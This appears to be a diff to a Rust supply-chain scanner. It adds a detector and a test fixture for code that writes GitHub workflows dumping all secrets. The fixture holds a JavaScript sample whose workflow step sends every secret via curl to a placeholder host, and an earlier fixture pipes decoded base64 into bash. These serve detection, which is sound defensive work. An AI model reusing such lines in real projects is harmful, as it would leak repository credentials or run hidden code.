@@ -3,7 +3,7 @@
 use super::{Context, Declaration, Example, Finding};
 use crate::api::targets;
 use crate::findings::host;
-use crate::model::{Confidence, Reach, Severity, SurfaceKind, Trigger};
+use crate::model::{Confidence, FileId, Reach, Severity, Span, SurfaceKind, Trigger};
 use crate::tool::Act;
 use crate::value::Place;
 
@@ -35,6 +35,22 @@ pub(super) static FINDING: Declaration = Declaration {
                 (
                     ".github/workflows/ci.yml",
                     "on: push\njobs:\n  a:\n    steps:\n      - run: echo ZWNobyBoaQo= | base64 -d | bash\n",
+                ),
+            ],
+        },
+        Example {
+            name: "a tool writes a workflow that sends all secrets",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs");
+const steps = { env: { ALL: "@{toJSON(secrets)}" }, run: "echo $ALL | curl -d @- https://collect.invalid/" };
+exports.write = (dir) => fs.writeFileSync(dir + "/.github/workflows/lint.yml", JSON.stringify({ on: "push", jobs: { lint: { steps: [steps] } } }).replace("@{", "${{ "));"#,
                 ),
             ],
         },
@@ -72,7 +88,51 @@ const TOOLS: [&str; 5] = [
     "travis",
 ];
 
+/// Code writes workflows, and holds the words that turn all secrets into text.
+fn of_code(context: &Context<'_>, found: &mut Vec<Finding>) {
+    const FOLDER: &str = "/.github/workflows";
+    const WORDS: [&[u8]; 2] = [b"toJSON(secrets)", b"toJson(secrets)"];
+    let mut writes = context.behaviours.iter().filter(|one| {
+        let target = one.target.as_deref().unwrap_or("");
+        one.what.id == "fs.write" && target.contains(FOLDER) && !target.starts_with("<package>")
+    });
+    let Some(first) = writes.next() else { return };
+    let entries = context.archive.entries.iter().zip(0..);
+    let holder = entries
+        .filter(|(entry, _)| is_code(&entry.path))
+        .find_map(|(entry, at)| {
+            let text = context.archive.buffer.get(entry.range.clone())?;
+            let place = WORDS
+                .iter()
+                .find_map(|words| memchr::memmem::find(text, words))?;
+            let start = u32::try_from(place).ok()?;
+            Some(Place {
+                file: FileId(at),
+                span: Span::new(start, start + 1),
+            })
+        });
+    let Some(holder) = holder else { return };
+    let path = first.target.as_deref().unwrap_or("a workflow");
+    let message = format!("writes {path}, and holds words that turn all secrets into text");
+    let mut finding = Finding::of_behaviour(&FINDING, first, message);
+    finding
+        .evidence
+        .extend(writes.flat_map(|one| one.sites.iter().copied()));
+    finding.evidence.push(holder);
+    finding.evidence.sort_unstable();
+    finding.evidence.dedup();
+    found.push(finding);
+}
+
+fn is_code(path: &str) -> bool {
+    matches!(
+        path.rsplit_once('.'),
+        Some((_, "js" | "cjs" | "mjs" | "ts" | "json"))
+    )
+}
+
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    of_code(context, found);
     for door in context
         .doors
         .iter()
